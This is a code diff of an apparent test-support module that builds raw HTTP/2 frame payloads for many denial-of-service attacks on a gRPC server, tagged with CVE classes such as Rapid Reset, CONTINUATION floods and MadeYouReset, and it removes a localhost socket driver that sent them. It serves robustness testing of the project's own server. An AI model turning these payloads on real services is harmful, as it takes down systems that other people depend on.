@@ -1,25 +1,43 @@
-"""A hostile peer: raw HTTP/2 frames as fast as a service reads them.
+"""Attacks on an HTTP/2 server by one connection, as bytes that are built once.
 
-`python -m support.http2_attacks PORT ATTACK CONNECTIONS` attacks until it is ended. A connection
-that the service closes is opened again.
+Those of known CVE classes name them. `http2_attacker` sends them.
 """
 
 import random
-import select
-import socket
-import sys
 from collections.abc import Callable
 from typing import NamedTuple
 
-from rockoon_core.http2 import frames
-from rockoon_core.http2.headers import block, literal
-from rockoon_core.http2.messages import PREFIX
+from support import http2_frames as frames
+from support.http2_frames import block, framed, literal
 from support.raw_http2 import CALL
 
 PATH = "/grpc.health.v1.Health/Check"
 WATCH = "/grpc.health.v1.Health/Watch"
+UNMET = "/test.Nothing/Here"
 STREAMS = 20_000
 CHUNK_BYTES = 256 << 10
+# Of long polls at a time, before the oldest is cancelled.
+POLLS = 64
+CANCEL = frames.ErrorCode.CANCEL
+
+
+class Attack(NamedTuple):
+    """What one connection sends.
+
+    Args:
+        once: behind the preface and SETTINGS.
+        again: repeated until the server ends the connection. None: when `once` is sent, the
+            attacker ends its side, and opens a new connection when the server has ended its own.
+        reads: whether the attacker reads answers.
+        pause_seconds: before each repetition of `again`.
+        cve: of the class of attacks to which it belongs.
+    """
+
+    once: Callable[[], bytes] = bytes
+    again: Callable[[], bytes] | None = None
+    reads: bool = True
+    pause_seconds: float = 0.0
+    cve: str = ""
 
 
 def head(stream_id: int, path: str = PATH, more: bytes = b"", *, ends: bool = False) -> bytes:
@@ -31,8 +49,11 @@ def head(stream_id: int, path: str = PATH, more: bytes = b"", *, ends: bool = Fa
 
 def request(stream_id: int, message: bytes = b"") -> bytes:
     """The request of a call, which ends its stream."""
-    body = PREFIX.pack(0, len(message)) + message
-    return frames.frame(frames.DATA, frames.END_STREAM, stream_id, body)
+    return frames.frame(frames.DATA, frames.END_STREAM, stream_id, framed(message))
+
+
+def call(stream_id: int, path: str = PATH, more: bytes = b"") -> bytes:
+    return head(stream_id, path, more) + request(stream_id)
 
 
 def each_stream(piece: Callable[[int], bytes], count: int = STREAMS) -> bytes:
@@ -40,37 +61,38 @@ def each_stream(piece: Callable[[int], bytes], count: int = STREAMS) -> bytes:
     return b"".join(piece(2 * number + 1) for number in range(count))
 
 
+def streams(piece: Callable[[int], bytes], count: int = STREAMS, cve: str = "") -> Attack:
+    """Something on one stream after another, on one connection after another."""
+    return Attack(lambda: each_stream(piece, count), cve=cve)
+
+
 def repeated(frame: bytes) -> bytes:
     return frame * max(CHUNK_BYTES // len(frame), 1)
 
 
-class Attack(NamedTuple):
-    """What one connection sends.
-
-    Args:
-        once: behind the preface.
-        again: repeated until the service ends the connection; None: when `once` is sent, the
-            attacker ends its side, and opens a new connection when the service has ended its own.
-        reads: whether the attacker reads answers.
-    """
-
-    once: Callable[[], bytes] = bytes
-    again: Callable[[], bytes] | None = None
-    reads: bool = True
+def flood(
+    frame: bytes, once: Callable[[], bytes] = bytes, *, reads: bool = True, cve: str = ""
+) -> Attack:
+    return Attack(once, lambda: repeated(frame), reads, cve=cve)
 
 
-def flood(frame: bytes, once: Callable[[], bytes] = bytes, *, reads: bool = True) -> Attack:
-    return Attack(once, lambda: repeated(frame), reads)
-
-
-def on_open_stream(frame: bytes) -> Attack:
+def on_open_stream(frame: bytes, cve: str = "") -> Attack:
     """A flood about stream 1, whose request never comes."""
-    return flood(frame, lambda: head(1))
+    return flood(frame, lambda: head(1), cve=cve)
 
 
 def settings_entries() -> bytes:
     entries = (frames.SETTING.pack(frames.INITIAL_WINDOW_SIZE, size) for size in range(2_700))
     return frames.frame(frames.SETTINGS, 0, 0, b"".join(entries))
+
+
+def priority_tree() -> bytes:
+    """Streams that depend on one another, each time on others."""
+    chance = random.Random(7)
+    return b"".join(
+        frames.priority(2 * chance.randrange(500) + 1, 2 * chance.randrange(500, 1_000) + 1)
+        for _ in range(CHUNK_BYTES // 14)
+    )
 
 
 def bomb() -> bytes:
@@ -79,10 +101,6 @@ def bomb() -> bytes:
     return head(1, more=kept) + each_stream(
         lambda stream_id: head(stream_id + 2, more=b"\xbe" * 15 + literal("n", str(stream_id)))
     )
-
-
-def many_headers(stream_id: int) -> bytes:
-    return head(stream_id, more=b"".join(literal("x", "y") for _ in range(300)))
 
 
 def coded(stream_id: int) -> bytes:
@@ -104,134 +122,166 @@ def continued(pieces: int, length: int) -> Callable[[int], bytes]:
     return piece
 
 
+def begun_headers() -> bytes:
+    """Headers whose block does not end."""
+    return frames.frame(frames.HEADERS, 0, 1, block(CALL))
+
+
+def continuation(payload: bytes) -> bytes:
+    return frames.frame(frames.CONTINUATION, 0, 1, payload)
+
+
 def table_sizes(count: int) -> Callable[[int], bytes]:
     headers = b"\x20\x3f\xe1\x1f" * count + block(CALL)
     return lambda stream_id: frames.frame(frames.HEADERS, frames.END_HEADERS, stream_id, headers)
 
 
-RESET = frames.ErrorCode.CANCEL
-UNMET = "/test.Nothing/Here"
+def changing_tables() -> bytes:
+    sizes = (0, 4_096, 65_536)
+    return b"".join(frames.settings({frames.HEADER_TABLE_SIZE: size}) for size in sizes)
+
+
+def then(frame: Callable[[int], bytes]) -> Callable[[int], bytes]:
+    """A whole call, and a frame behind it on its stream."""
+    return lambda stream_id: call(stream_id) + frame(stream_id)
+
+
+def cancelled_polls() -> bytes:
+    """Long polls, of which `POLLS` wait; each is cancelled when so many more have begun."""
+
+    def piece(stream_id: int) -> bytes:
+        oldest = stream_id - 2 * POLLS
+        reset = frames.rst_stream(oldest, CANCEL) if oldest > 0 else b""
+        return call(stream_id, WATCH) + reset
+
+    return each_stream(piece)
+
+
+def claimed(stream_id: int) -> bytes:
+    """The beginning of a message of 60 MiB."""
+    begun = frames.PREFIX.pack(0, 60 << 20) + bytes(100)
+    return head(stream_id) + frames.frame(frames.DATA, 0, stream_id, begun)
+
+
+def long_request(stream_id: int) -> bytes:
+    """A valid request of 60 KiB in frames of 15 KiB, all of it a field that no service knows."""
+    size = 60 << 10
+    unknown = b"\x7a" + bytes((size & 0x7F | 0x80, size >> 7 & 0x7F | 0x80, size >> 14))
+    message = framed(unknown + bytes(size))
+    pieces = [message[at : at + (15 << 10)] for at in range(0, len(message), 15 << 10)]
+    parts = [frames.frame(frames.DATA, 0, stream_id, each) for each in pieces[:-1]]
+    last = frames.frame(frames.DATA, frames.END_STREAM, stream_id, pieces[-1])
+    return head(stream_id) + b"".join(parts) + last
+
+
+def slow_requests() -> bytes:
+    """Calls whose requests of 1,000 bytes begin."""
+    begun = frames.PREFIX.pack(0, 1_000)
+    return each_stream(
+        lambda stream_id: head(stream_id) + frames.frame(frames.DATA, 0, stream_id, begun), 500
+    )
+
+
+def slow_request_bytes() -> bytes:
+    return each_stream(lambda stream_id: frames.frame(frames.DATA, 0, stream_id, b"\0"), 500)
+
+
+def unread() -> bytes:
+    """Calls for whose answers the connection's window, but not the socket, has room."""
+    return frames.window_update(0, 1 << 30) + each_stream(call, 3 * STREAMS)
+
+
+def without_window(piece: Callable[[int], bytes]) -> Callable[[], bytes]:
+    no_window = frames.settings({frames.INITIAL_WINDOW_SIZE: 0})
+    return lambda: no_window + each_stream(piece)
+
 
 ATTACKS: dict[str, Attack] = {
-    "ping": flood(frames.frame(frames.PING, 0, 0, bytes(8))),
-    "ping-unread": flood(frames.frame(frames.PING, 0, 0, bytes(8)), reads=False),
+    # Frames without effect.
+    "ping": flood(frames.frame(frames.PING, 0, 0, bytes(8)), cve="2019-9512"),
+    "ping-unread": flood(frames.frame(frames.PING, 0, 0, bytes(8)), reads=False, cve="2019-9512"),
     "ping-answers": flood(frames.frame(frames.PING, frames.ACK, 0, bytes(8))),
-    "settings": flood(frames.settings({frames.INITIAL_WINDOW_SIZE: 1 << 16})),
+    "settings": flood(frames.settings({frames.INITIAL_WINDOW_SIZE: 1 << 16}), cve="2019-9515"),
     "settings-answers": flood(frames.frame(frames.SETTINGS, frames.ACK, 0)),
-    "settings-entries": Attack(lambda: each_stream(head), settings_entries),
-    "priority": flood(frames.frame(frames.PRIORITY, 0, 1, bytes(5))),
+    "settings-entries": Attack(lambda: each_stream(head), settings_entries, cve="2019-9515"),
+    "settings-table-sizes": flood(changing_tables()),
+    "priority": flood(frames.priority(1, 0), cve="2019-9513"),
+    "priority-tree": Attack(again=priority_tree, cve="2019-9513"),
     "window-update": flood(frames.window_update(0, 1)),
     "stream-window-update": on_open_stream(frames.window_update(1, 1)),
-    "empty-data": on_open_stream(frames.frame(frames.DATA, 0, 1)),
+    "empty-data": on_open_stream(frames.frame(frames.DATA, 0, 1), cve="2019-9518"),
     "one-byte-data": flood(frames.frame(frames.DATA, 0, 1, b"\0"), lambda: head(1, WATCH)),
     "padding": on_open_stream(frames.frame(frames.DATA, frames.PADDED, 1, b"\x03\0\0\0")),
     "unknown-frames": flood(frames.frame(0xEE, 0, 0)),
+    "long-unknown-frames": flood(frames.frame(0xEE, 0, 0, bytes(16_000))),
     "goaway": flood(frames.goaway(0, frames.ErrorCode.NO_ERROR)),
-    "data-behind-end": flood(frames.frame(frames.DATA, 0, 1, b"x"), lambda: head(1) + request(1)),
-    "resets-behind-end": flood(frames.rst_stream(1, RESET), lambda: head(1) + request(1)),
-    "header-bomb": Attack(bomb),
-    "many-headers": Attack(lambda: each_stream(many_headers, 2_000)),
-    "coded-headers": Attack(lambda: each_stream(coded, 200)),
-    "table-sizes": Attack(lambda: each_stream(table_sizes(2_000), 100)),
-    "continuation-full": Attack(lambda: each_stream(continued(1, 12_000), 200)),
-    "continuation-empty": Attack(lambda: each_stream(continued(60, 1), 2_000)),
-    "no-request": Attack(lambda: each_stream(head)),
-    "no-request-ended": Attack(lambda: each_stream(lambda number: head(number, ends=True))),
-    "part-of-request": Attack(
-        lambda: each_stream(lambda number: head(number) + frames.frame(0, 0, number, b"\0\0"))
+    "data-behind-end": flood(frames.frame(frames.DATA, 0, 1, b"x"), lambda: call(1)),
+    "resets-behind-end": flood(frames.rst_stream(1, CANCEL), lambda: call(1)),
+    # Headers.
+    "header-bomb": Attack(bomb, cve="2016-6581"),
+    "many-headers": streams(lambda number: head(number, more=literal("x", "y") * 300), 2_000),
+    "empty-headers": streams(
+        lambda number: head(number, more=b"\0\0\0" * 100 + b"\0\x80\x80" * 100),
+        2_000,
+        cve="2019-9516",
     ),
-    "rapid-reset": Attack(
-        lambda: each_stream(
-            lambda number: head(number) + request(number) + frames.rst_stream(number, RESET)
-        )
+    "odd-headers": streams(lambda number: call(number, more=literal("x", "a\r\nb: c\0"))),
+    "coded-headers": streams(coded, 200),
+    "table-sizes": streams(table_sizes(2_000), 100),
+    "continuation-full": streams(continued(1, 12_000), 200),
+    "continuation-empty": streams(continued(60, 1), 2_000, cve="2019-9518"),
+    "continuation-endless": Attack(
+        begun_headers, lambda: repeated(continuation(literal("x", "y" * 10_000))), cve="2024-27316"
     ),
-    "reset-without-request": Attack(
-        lambda: each_stream(lambda number: head(number) + frames.rst_stream(number, RESET))
+    "continuation-nothing": Attack(
+        begun_headers, lambda: repeated(continuation(b"")), cve="2019-9518"
     ),
-    "made-you-reset": Attack(
-        lambda: each_stream(
-            lambda number: head(number) + request(number) + frames.window_update(number, 0)
-        )
+    "slow-headers": Attack(begun_headers, lambda: continuation(b"\0"), pause_seconds=0.05),
+    "no-head": streams(
+        lambda number: frames.frame(frames.HEADERS, frames.END_HEADERS, number, b"\x83"),
+        cve="2019-9514",
     ),
-    "no-head": Attack(
-        lambda: each_stream(lambda number: frames.frame(frames.HEADERS, 4, number, b"\x83"))
+    # Calls without a whole request.
+    "no-request": streams(head),
+    "no-request-ended": streams(lambda number: head(number, ends=True)),
+    "part-of-request": streams(
+        lambda number: head(number) + frames.frame(frames.DATA, 0, number, b"\0\0")
     ),
-    "unknown-method": Attack(
-        lambda: each_stream(lambda number: head(number, UNMET) + request(number))
+    "slow-requests": Attack(slow_requests, slow_request_bytes, pause_seconds=0.1),
+    "message-claims": streams(claimed, 5_000),
+    # Resets by either side.
+    "rapid-reset": streams(
+        then(lambda number: frames.rst_stream(number, CANCEL)), cve="2023-44487"
     ),
-    "streams": Attack(lambda: each_stream(lambda number: head(number, WATCH) + request(number))),
-    "calls": Attack(lambda: each_stream(lambda number: head(number) + request(number))),
-    "calls-unread": Attack(
-        lambda: each_stream(lambda number: head(number) + request(number)), reads=False
+    "reset-without-request": streams(
+        lambda number: head(number) + frames.rst_stream(number, CANCEL), cve="2023-44487"
     ),
-    "calls-without-window": Attack(
-        lambda: (
-            frames.settings({frames.INITIAL_WINDOW_SIZE: 0})
-            + each_stream(lambda number: head(number) + request(number))
-        )
+    "made-you-reset": streams(
+        then(lambda number: frames.window_update(number, 0)), cve="2025-8671"
     ),
-    "noise": Attack(lambda: frames.PREFACE, lambda: random.Random(7).randbytes(CHUNK_BYTES)),
+    "made-you-reset-window": streams(
+        then(lambda number: frames.window_update(number, frames.WINDOW_MAX)), cve="2025-8671"
+    ),
+    "made-you-reset-data": streams(
+        then(lambda number: frames.frame(frames.DATA, 0, number, b"x")), cve="2025-8671"
+    ),
+    "made-you-reset-priority": streams(
+        then(lambda number: frames.priority(number, number)), cve="2025-8671"
+    ),
+    "cancelled-polls": Attack(cancelled_polls, cve="2023-44487"),
+    # Calls.
+    "unknown-method": streams(lambda number: call(number, UNMET)),
+    "streams": streams(lambda number: call(number, WATCH)),
+    "calls": streams(call),
+    "deadlines": streams(lambda number: call(number, WATCH, literal("grpc-timeout", "1m"))),
+    "long-requests": streams(long_request, 200),
+    # Answers.
+    "calls-unread": Attack(unread, reads=False, cve="2019-9517"),
+    "calls-without-window": Attack(without_window(call)),
+    "dribble": Attack(
+        without_window(lambda number: call(number) + frames.window_update(number, 1) * 8),
+        cve="2019-9511",
+    ),
+    # No HTTP/2.
+    "noise": Attack(again=lambda: random.Random(7).randbytes(CHUNK_BYTES)),
 }
-
-
-class Connection:
-    """One connection of the attacker, opened again as often as the service closes it."""
-
-    def __init__(self, port: int, attack: Attack, once: bytes, again: bytes) -> None:
-        self._port = port
-        self._attack = attack
-        self._once = frames.PREFACE + frames.settings({}) + once
-        self._again = again
-        self.open()
-
-    def open(self) -> None:
-        self.socket = socket.create_connection(("127.0.0.1", self._port))
-        self.socket.setblocking(False)
-        self._left = memoryview(self._once)
-        self.writes = True
-
-    def reopen(self) -> None:
-        self.socket.close()
-        self.open()
-
-    def step(self, *, may_read: bool, may_write: bool) -> None:
-        """Read and write as much as the socket allows."""
-        try:
-            if may_read and not self.socket.recv(1 << 20):
-                self.reopen()
-                return
-            if may_write:
-                if not self._left:
-                    if not self._again:
-                        self.socket.shutdown(socket.SHUT_WR)
-                        self.writes = False
-                        return
-                    self._left = memoryview(self._again)
-                count = self.socket.send(self._left)
-                self._left = self._left[count:]
-        except BlockingIOError:
-            return
-        except OSError:
-            self.reopen()
-
-    @property
-    def reads(self) -> bool:
-        return self._attack.reads
-
-
-def main(port: int, name: str, count: int) -> None:
-    attack = ATTACKS[name]
-    once, again = attack.once(), attack.again() if attack.again is not None else b""
-    connections = [Connection(port, attack, once, again) for _ in range(count)]
-    print("attacking", flush=True)
-    while True:
-        by_socket = {each.socket: each for each in connections}
-        readers = [each.socket for each in connections if each.reads]
-        writers = [each.socket for each in connections if each.writes]
-        readable, writable, _ = select.select(readers, writers, [], 1.0)
-        for each in {*readable, *writable}:
-            by_socket[each].step(may_read=each in readable, may_write=each in writable)
-
-
-if __name__ == "__main__":
-    main(int(sys.argv[1]), sys.argv[2], int(sys.argv[3]))
